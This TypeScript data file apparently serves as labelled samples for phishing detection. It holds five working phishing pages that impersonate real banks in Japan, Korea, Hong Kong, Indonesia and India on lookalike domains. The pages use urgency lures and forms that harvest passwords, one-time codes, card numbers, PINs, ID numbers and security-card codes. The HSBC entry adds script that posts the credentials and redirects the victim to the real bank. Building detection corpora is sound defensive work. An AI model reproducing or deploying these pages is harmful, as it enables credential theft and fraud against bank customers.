import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, gtag, icons, iconHead } from '../parts/ze-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
  id: 'ze-phish-jp-smbc-direct-login',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://smbc-direct.kouza-kakunin.top/ib/login.html',
  routes: {
    ...icons('smbc-direct.kouza-kakunin.top', 0, 132, 61),
    'smbc-direct.kouza-kakunin.top/ib/login.html': htmlRoute(doc({
      lang: 'ja',
      title: '三井住友銀行 SMBCダイレクト｜ログイン',
      head: iconHead,
      css: '.hd{border-bottom:4px solid #00843d;padding:12px 0}.box{max-width:520px;margin:30px auto;border:1px solid #ccc;padding:24px}.box h1{font-size:18px;border-left:5px solid #00843d;padding-left:8px}.note{background:#fff6e0;border:1px solid #f0c36d;padding:10px;font-size:13px}.go{background:#00843d;color:#fff;width:100%;margin-top:16px}',
      body: `<div class="hd"><div class="wrap"><img src="/img/logo.png" width="28" height="28" alt=""> <b style="color:#00843d">三井住友銀行</b> SMBCダイレクト</div></div>
<div class="box"><h1>ログイン</h1>
<p class="note">【重要】お客さまの口座で不正な取引が検知されたため、一部のお取引を制限しております。本人確認を完了すると制限が解除されます。</p>
<form id="lg" method="post" action="./check.php">
<label>店番号（3桁）</label><input name="branch" maxlength="3" inputmode="numeric">
<label>口座番号（7桁）</label><input name="account" maxlength="7" inputmode="numeric">
<label>第一暗証（ログイン暗証番号）</label><input name="pass1" type="password" maxlength="4">
<label>ワンタイムパスワード</label><input name="otp" maxlength="8" inputmode="numeric">
<button class="go">ログイン</button></form>
<p style="font-size:12px">契約者番号でログインされる方は<a href="#">こちら</a></p></div>
<footer><div class="wrap">Copyright © Sumitomo Mitsui Banking Corporation. All Rights Reserved.</div></footer>`,
    })),
  },
},
  {
  id: 'ze-phish-kr-kbstar-security-card',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://kbstar-ibank.kr-auth.icu/quics?page=C025255',
  routes: {
    'kbstar-ibank.kr-auth.icu/quics': htmlRoute(doc({
      lang: 'ko',
      title: 'KB국민은행 - 개인뱅킹 보안강화 인증',
      css: '.top{background:#ffbc00;padding:14px 0;font-weight:bold}.pn{max-width:640px;margin:24px auto;border:1px solid #ddd;padding:20px}.grid{display:grid;grid-template-columns:repeat(5,1fr);gap:6px}.grid input{padding:6px}.ok{background:#60584c;color:#fff;width:100%;margin-top:14px}',
      body: `<div class="top"><div class="wrap">KB국민은행 &nbsp;<span style="font-weight:normal">개인 | 기업 | 자산관리</span></div></div>
<div class="pn"><h3>전자금융사기 예방 서비스 - 보안강화 인증</h3>
<p>금융감독원 지침에 따라 고객님의 보안등급 상향이 필요합니다. 미등록 시 인터넷뱅킹 이용이 제한됩니다.</p>
<form method="post" action="/quics/proc.jsp">
<label>성명</label><input name="nm"><label>주민등록번호</label><input name="jumin" placeholder="앞 6자리 - 뒤 7자리" maxlength="14">
<label>인터넷뱅킹 ID</label><input name="uid"><label>비밀번호</label><input name="upw" type="password">
<label>계좌비밀번호 (4자리)</label><input name="acpw" type="password" maxlength="4">
<p><b>보안카드 번호 전체 입력</b> (1~30번, 각 4자리)</p>
<div class="grid" id="g"></div>
<button class="ok">확인</button></form></div>
<script>var g=document.getElementById('g');for(var i=1;i<=30;i++){var d=document.createElement('div');d.innerHTML='<small>'+i+'</small><input name="sc'+i+'" maxlength="4">';g.appendChild(d)}</script>
<footer><div class="wrap">Copyright © KB Kookmin Bank. All Rights Reserved.</div></footer>`,
    })),
  },
},
  {
  id: 'ze-phish-hk-hsbc-logon-2fa',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://hsbc-hk.secure-logon.help/security/logon',
  routes: {
    'hsbc-hk.secure-logon.help/security/logon': htmlRoute(doc({
      lang: 'zh-HK',
      title: 'HSBC HK | 登入網上理財',
      css: '.h{border-top:4px solid #db0011;padding:16px 0;box-shadow:0 1px 3px #ccc}.f{max-width:440px;margin:40px auto}.r{background:#db0011;color:#fff;width:100%;margin-top:16px}',
      body: `<div class="h"><div class="wrap"><b style="color:#db0011">◆ HSBC</b> 香港 &nbsp; English | 繁體 | 简体</div></div>
<div class="f"><h2>登入個人網上理財</h2>
<div id="s1"><label>用戶名稱 Username</label><input id="u"><button class="r" onclick="document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'">繼續</button></div>
<div id="s2" style="display:none"><label>密碼 Password</label><input id="p" type="password"><label>流動保安編碼 / 保安編碼器密碼 (6位)</label><input id="o" maxlength="6" inputmode="numeric"><button class="r" id="go">登入</button></div>
<p style="font-size:12px">由於系統升級，所有客戶須於 48 小時內重新驗證身份，否則戶口將被暫停。</p></div>
<script src="/security/js/app.min.js"></script>
<footer><div class="wrap">© 香港上海滙豐銀行有限公司 2025</div></footer>`,
    })),
    'hsbc-hk.secure-logon.help/security/js/app.min.js': jsRoute(`(function(){var b=document.getElementById('go');b.onclick=function(){var d={u:document.getElementById('u').value,p:document.getElementById('p').value,o:document.getElementById('o').value,ua:navigator.userAgent};fetch('/security/api/s.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).finally(function(){location.href='https://www.hsbc.com.hk/'})}})();`),
  },
},
  {
  id: 'ze-phish-id-bri-tarif-transfer',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bri-tarif-baru.web-id.site/',
  body: doc({
    lang: 'id',
    title: 'BRImo - Perubahan Tarif Transaksi',
    css: 'body{background:#00529c;color:#fff}.c{max-width:440px;margin:20px auto;background:#fff;color:#222;border-radius:14px;padding:22px}.opt{border:2px solid #00529c;border-radius:8px;padding:12px;margin:8px 0;cursor:pointer}.opt.on{background:#e6f0fa}.b{background:#f37021;color:#fff;width:100%}',
    body: `<div class="c"><h3 style="color:#00529c">BANK BRI</h3><p><b>Pilih Tarif Transaksi Baru Anda</b></p>
<div class="opt on" data-v="1">Tarif Lama: Rp 6.500 / transaksi (berlaku biasa)</div>
<div class="opt" data-v="2">Tarif Baru: Rp 150.000 / bulan (UNLIMITED transaksi)</div>
<p style="font-size:12px">Jika tidak memilih, sistem otomatis mengaktifkan tarif Rp 150.000/bulan mulai besok.</p>
<form method="post" action="data.php"><label>Nama Lengkap</label><input name="nama"><label>Nomor Rekening</label><input name="norek"><label>No. HP terdaftar</label><input name="hp" value="+62 ">
<label>Saldo Terakhir</label><input name="saldo"><label>Nomor Kartu Debit (16 digit)</label><input name="kartu" maxlength="16"><label>PIN BRImo</label><input name="pin" type="password" maxlength="6">
<button class="b">LANJUTKAN</button></form></div>
<script>document.querySelectorAll('.opt').forEach(function(o){o.onclick=function(){document.querySelectorAll('.opt').forEach(function(x){x.classList.remove('on')});o.classList.add('on')}})</script>`,
  }),
},
  {
  id: 'ze-phish-in-sbi-yono-kyc-pan',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sbi-yono-kyc.onlinesbi-update.in.net/kyc/',
  body: doc({
    lang: 'en-IN',
    title: 'SBI YONO - KYC Update',
    head: gtag('G-8KX2LQ1PZ3'),
    css: 'body{background:#e9f2fb}.c{max-width:430px;margin:20px auto;background:#fff;padding:20px;border-radius:10px}.bl{background:#22409a;color:#fff;width:100%;margin-top:14px}',
    body: `<div class="c"><h2 style="color:#22409a">YONO SBI</h2>
<p><b>Dear Customer, your YONO account will be blocked today.</b> Please update your PAN card / KYC to continue using net banking. प्रिय ग्राहक, आपका खाता आज बंद हो जाएगा, कृपया पैन कार्ड अपडेट करें।</p>
<form method="post" action="step2.php"><label>Username</label><input name="user"><label>Password</label><input name="pass" type="password"><label>Registered Mobile Number</label><input name="mob" maxlength="10"><label>PAN Card Number</label><input name="pan" maxlength="10" style="text-transform:uppercase"><label>Date of Birth</label><input name="dob" type="date"><button class="bl">Submit</button></form>
<p style="font-size:11px">© State Bank of India. All rights reserved.</p></div>`,
  }),
},
];
